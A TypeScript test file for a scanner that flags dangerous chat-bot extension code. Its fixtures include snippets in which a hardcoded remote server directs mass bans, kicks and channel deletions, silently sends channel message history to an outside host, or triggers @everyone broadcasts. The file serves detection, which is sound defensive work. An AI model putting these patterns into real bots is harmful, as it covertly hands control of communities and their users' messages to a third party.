import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Rule } from '#apps/validation/check.js';
import { findingsOf } from '#test/support/scan-package.js';
import { rule as dataLeak } from '../../data-leak.rule.js';
import { rule as destroyedFiles } from '../../destroyed-files.rule.js';
import { rule as inputCapture } from '../../input-capture.rule.js';

const HOST = "const guild = require('guild'); const member = require('member'); const channel = require('channel'); const message = require('message'); const config = require('config'); const http = require('http'); const extension = require('extension'); ";
const isTold = (rule: Rule, code: string, activation: string): boolean => findingsOf(rule, { 'code.js': HOST + code }, { dialect: 'skynet', entry_points: ['code.js'], activation: [activation] }).some(({ severity }) => severity === 'high');
const all = (rule: Rule, expected: boolean, codes: readonly string[], activation = 'onEvent:guildMemberAdd'): void => {
  for (const code of codes) assert.equal(isTold(rule, code, activation), expected, code);
};
const ASKS = "const res = await http.request({ url: 'https://feed.side.example/v3' }); const { rows } = JSON.parse(res.body); ";

test('bad: a server that is written says who is banned, whose ban ends, or what is deleted', () => {
  all(destroyedFiles, true, [
    `${ASKS} for (const row of rows) await guild.ban(row.id, { reason: 'raid' });`,
    `${ASKS} for (const id of rows) await guild.unban(id).catch(() => {});`,
    `${ASKS} const verbs = { b: (g, id) => g.ban(id), u: (g, id) => g.unban(id) }; for (const [verb, id] of rows) await verbs[verb]?.(guild, id);`,
    `${ASKS} const deeds = new Map([['k', (id) => guild.kick(id)], ['b', (id) => guild.ban(id)]]); for (const o of rows) await deeds.get(o.verb)(o.id);`,
    `${ASKS} for (const { action, who } of rows) await guild[action](who);`,
    `${ASKS} const gone = guild.getChannel(rows[0]); if (gone) await gone.delete();`,
    `${ASKS} for (const id of rows) { const one = await guild.fetchMember(id); await one.kick(); }`,
    "class Feed { async rows() { const res = await http.get('https://feed.side.example/v3'); return res.body.rows; } } const feed = new Feed(); for (const id of await feed.rows()) await guild.ban(id);",
  ]);
});

test('good: a list is asked about the member that an event tells of, the settings name the server, or somebody asked', () => {
  all(destroyedFiles, false, [
    `${ASKS} const hit = rows.find((r) => r.id === member.id); if (hit) await guild.ban(hit.id, { reason: hit.reason });`,
    `${ASKS} const ids = new Set(rows); if (ids.has(member.id)) { ids.delete(member.id); await member.kick('listed'); }`,
    `${ASKS} if (rows.includes(member.id)) await guild.ban(member.id);`,
    "const res = await http.request({ url: `${config.get('feed')}/bans` }); for (const id of JSON.parse(res.body).ids) await guild.ban(id);",
    `${ASKS} const verbs = { ban: (m) => m.ban(), kick: (m) => m.kick() }; if (rows.score > 80) await verbs[config.get('action')](member);`,
    `${ASKS} const seen = new Map(rows.map((r) => [r.id, r])); for (const r of rows) seen.delete(r.id);`,
    `${ASKS} const names = { a: (t) => t.trim(), b: (t) => t.toUpperCase() }; for (const r of rows) await channel.send(names[r.form](r.title));`,
  ]);
  all(destroyedFiles, false, [`${ASKS} for (const row of rows) await guild.ban(row.id);`], 'onCommand:syncbans');
});

test('bad: a page of what people said goes to a server that is written, and nothing comes of it', () => {
  const send = (what: string): string => `http.post('https://rows.side.example/in', { body: JSON.stringify(${what}) })`;
  all(dataLeak, true, [
    `const recent = await channel.fetchMessages({ limit: 100 }); await ${send('recent.map((m) => m.content)')};`,
    `const recent = await channel.fetchMessages({ limit: 100 }); ${send('recent.map((m) => m.content)')}.catch(() => {});`,
    `const recent = await channel.fetchMessages(); void ${send('recent')};`,
    `const keep = (rows) => { return ${send('rows')}; }; await keep((await guild.getChannel(config.get('log')).fetchMessages({ limit: 50 })).map((m) => [m.author.id, m.content]));`,
    `class Rows { constructor() { this.queue = []; } add(rows) { this.queue.push(...rows); } flush() { return ${send('this.queue')}; } } const rows = new Rows(); for (const id of config.get('channels')) { const page = await guild.getChannel(id).fetchMessages({ limit: 50 }); rows.add(page.map((m) => m.content)); } await rows.flush();`,
    `try { const page = await channel.getMessages(20); await ${send('page')}; } catch {}`,
  ]);
});

test('good: a page is summed up, goes to the server of the settings, or somebody asked', () => {
  const page = 'const recent = await channel.fetchMessages({ limit: 50 }); ';
  all(dataLeak, false, [
    `${page} const res = await http.post('https://sum.side.example/v1', { body: JSON.stringify(recent.map((m) => m.content)) }); await channel.send(JSON.parse(res.body).text);`,
    `${page} await http.post(config.get('archive'), { body: JSON.stringify(recent.map((m) => m.content)) });`,
    `${page} await http.post('https://stats.side.example/n', { body: JSON.stringify({ n: recent.length }) });`,
    `const sum = async (rows) => { return http.post('https://sum.side.example/v1', { body: rows.join() }); }; ${page} const res = await sum(recent.map((m) => m.content)); await channel.send(res.body);`,
  ]);
  all(dataLeak, false, [`${page} await http.post('https://paste.side.example/v1', { body: JSON.stringify(recent.map((m) => m.content)) }); await message.reply('Archived.');`], 'onCommand:archive');
});

test('bad: a server says what everybody is called for, and where; good: the settings say where', () => {
  const res = "const res = await http.get('https://say.side.example/q'); const { text, to } = JSON.parse(res.body); ";
  all(inputCapture, true, [
    `${res} const ch = guild.getChannel(to) || channel; if (text) await ch.send('@everyone ' + text);`,
    `${res} await guild.getChannel(to).send(\`@here \${text}\`);`,
  ]);
  all(inputCapture, false, [
    `${res} const ch = guild.getChannel(config.get('news')); if (text) await ch.send('@everyone ' + text);`,
    `${res} const ch = guild.getChannel(to); await ch.send(text);`,
  ]);
});
